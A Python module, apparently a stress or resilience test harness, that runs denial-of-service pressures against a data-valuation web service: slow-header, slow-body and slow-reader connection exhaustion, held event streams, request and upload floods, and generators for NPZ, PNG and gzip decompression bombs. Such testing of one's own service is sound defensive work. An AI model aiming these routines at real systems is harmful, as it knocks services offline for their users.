"""Who presses: each function presses on one service until it is ended, in a process of its own.

Sockets are ours, so that a client can be as slow as one likes; requests that are whole go through httpx.
"""

import io
import socket
import struct
import threading
import time
import zipfile
import zlib
from collections.abc import Callable, Sequence
from dataclasses import dataclass

import httpx
import numpy as np

CONNECTIONS, STREAMS, AT_ONCE = 200, 200, 50


@dataclass(frozen=True)
class Target:
    """The service, and what the attackers have: keys of a provider and a buyer of theirs, an order, test sets of the
    buyer's that no quote has read, drafts to upload into, a job that waits."""

    host: str
    port: int
    provider: str
    buyer: str
    datasets: tuple[str, ...]
    tests: tuple[str, ...]
    drafts: tuple[str, ...]
    job: str

    @property
    def url(self) -> str:
        return f"http://{self.host}:{self.port}"

    def connect(self, buffer: int | None = None) -> socket.socket:
        connection = socket.socket()
        if buffer is not None:
            connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, buffer)
        connection.connect((self.host, self.port))
        return connection


def _drip(target: Target, head: str, piece: bytes) -> None:
    """So many connections, each of which sends a piece a second; whoever is cut off comes again."""
    connections: list[socket.socket | None] = [None] * CONNECTIONS
    while True:
        for at, connection in enumerate(connections):
            try:
                if connection is None:
                    connection = connections[at] = target.connect()
                    connection.sendall(head.encode())
                connection.sendall(piece)
            except OSError:
                connections[at] = None
        time.sleep(1)


def slow_headers(target: Target) -> None:
    """200 requests whose headers do not end."""
    _drip(target, "GET /v1/datasets HTTP/1.1\r\nHost: x\r\n", b"X-More: 1\r\n")


def slow_bodies(target: Target) -> None:
    """200 forms of which a byte a second comes, from nobody."""
    form = "Content-Type: application/x-www-form-urlencoded\r\nContent-Length: 100000\r\n\r\n"
    _drip(target, f"POST /login HTTP/1.1\r\nHost: x\r\n{form}", b"a")


def slow_readers(target: Target) -> None:
    """200 downloads of a page's largest file of which nothing is read."""
    asked = b"GET /static/swagger/swagger-ui-bundle.js HTTP/1.1\r\nHost: x\r\n\r\n"
    held = []
    for _ in range(CONNECTIONS):
        connection = target.connect(buffer=2048)
        connection.sendall(asked)
        held.append(connection)
    while True:
        time.sleep(1)


def streams(target: Target) -> None:
    """200 open event streams of a job that waits."""
    head = f"Host: x\r\nAuthorization: Bearer {target.buyer}\r\nAccept: text/event-stream\r\n\r\n"
    held = []
    for _ in range(STREAMS):
        connection = target.connect()
        connection.sendall(f"GET /v1/valuations/{target.job}/events HTTP/1.1\r\n{head}".encode())
        held.append(connection)
    while True:
        for connection in held:
            connection.setblocking(False)
            try:
                connection.recv(65536)
            except OSError:
                continue
        time.sleep(0.2)


def quotes(target: Target) -> None:
    """50 quotes at a time, each of a test set that was not read before while there are such."""
    orders = [
        {"datasets": target.datasets, "test_dataset": test, "pool": "1.00", "currency": "EUR"} for test in target.tests
    ]
    _at_once(
        target.buyer, lambda client, at: client.post("/v1/valuations/quote", json=orders[at % len(orders)]), target
    )


def uploads(target: Target) -> None:
    """50 uploads of two megabytes of CSV at a time."""
    rows = np.random.default_rng(0).normal(size=(20_000, 12))
    lines = [",".join(f"{cell:.5f}" for cell in row) + f",{at % 2}" for at, row in enumerate(rows)]
    _uploading(target, [("\n".join([",".join("abcdefghijkl") + ",label", *lines]) + "\n").encode()])


def bombs(target: Target) -> None:
    """50 uploads at a time of what unpacks to gigabytes: an NPZ of zeros, images of a hundred million pixels, gzip."""
    _uploading(target, [npz_bomb(), image_bomb(), gzip_bomb()])


def npz_bomb(megabytes: int = 512) -> bytes:
    """An NPZ whose array of zeros unpacks to so much."""
    count = megabytes * 1024 * 1024 // 4
    header = io.BytesIO()
    np.lib.format.write_array_header_1_0(header, {"descr": "<f4", "fortran_order": False, "shape": (count // 8, 8)})
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive:
        with archive.open("X.npy", "w", force_zip64=True) as member:
            member.write(header.getvalue())
            for _ in range(megabytes):
                member.write(bytes(1024 * 1024))
        archive.writestr("y.npy", header.getvalue())
    return packed.getvalue()


def image_bomb(side: int = 10_000) -> bytes:
    """An archive of a PNG of side times side grey pixels, all of them black."""

    def chunk(kind: bytes, content: bytes) -> bytes:
        body = kind + content
        return struct.pack(">I", len(content)) + body + struct.pack(">I", zlib.crc32(body))

    pixels = zlib.compress(bytes((side + 1) * side), 9)
    head = struct.pack(">IIBBBBB", side, side, 8, 0, 0, 0, 0)
    image = b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", pixels) + chunk(b"IEND", b"")
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w") as archive:
        for label in ("cat", "dog"):
            archive.writestr(f"{label}/1.png", image)
    return packed.getvalue()


def gzip_bomb(megabytes: int = 1024) -> bytes:
    """A gzip of a CSV that unpacks to so much."""
    packer = zlib.compressobj(9, zlib.DEFLATED, 31)
    line = b"1,2\n" * (256 * 1024)
    return packer.compress(b"a,label\n") + b"".join(packer.compress(line) for _ in range(megabytes)) + packer.flush()


def _uploading(target: Target, contents: Sequence[bytes]) -> None:
    def send(client: httpx.Client, at: int) -> httpx.Response:
        draft = target.drafts[at % len(target.drafts)]
        return client.put(f"/v1/datasets/{draft}/content", content=contents[at % len(contents)])

    _at_once(target.provider, send, target)


def _at_once(token: str, send: Callable[[httpx.Client, int], httpx.Response], target: Target) -> None:
    """So many threads, each of which sends one request after the other."""

    def work(number: int) -> None:
        headers = {"Authorization": f"Bearer {token}"}
        with httpx.Client(base_url=target.url, headers=headers, timeout=600, trust_env=False) as client:
            for turn in range(10**6):
                try:
                    answer = send(client, number + AT_ONCE * turn)
                except httpx.HTTPError:
                    time.sleep(0.5)
                    continue
                if answer.status_code in (429, 503):
                    time.sleep(min(5.0, float(answer.headers.get("Retry-After", 1))))

    threads = [threading.Thread(target=work, args=(number,), daemon=True) for number in range(AT_ONCE)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()


PRESSURES: dict[str, Callable[[Target], None]] = {
    "slow headers": slow_headers,
    "slow bodies": slow_bodies,
    "slow readers": slow_readers,
    "200 event streams": streams,
    "50 quotes at a time": quotes,
    "50 uploads at a time": uploads,
    "50 bombs at a time": bombs,
}
